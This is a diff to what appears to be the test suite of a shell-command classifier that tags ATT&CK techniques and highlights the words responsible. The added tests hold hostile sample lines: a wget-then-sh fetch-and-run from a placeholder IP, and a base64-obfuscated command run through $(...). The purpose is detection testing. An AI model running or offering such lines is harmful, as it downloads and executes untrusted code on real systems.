@@ -55,6 +55,14 @@ describe('severity follows the definition', () => {
       expect.objectContaining({ id: 'T1105', why: expect.stringContaining('wget http://192.0.2.1/x') }),
     );
   });
+
+  it.each([
+    ['cd /tmp; wget http://192.0.2.1/x; sh x', 'T1105', 'wget http://192.0.2.1/x'],
+    ['id; $(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=|base64 -d)', 'T1140', 'base64 -d'],
+  ])('marks in %s the words that told %s', (line, technique, words) => {
+    const span = told(command(line)).techniques.find(({ id }) => id === technique)?.span;
+    expect(line.slice(span?.start, span?.end)).toContain(words);
+  });
 });
 
 describe('the session remembers, within bounds', () => {
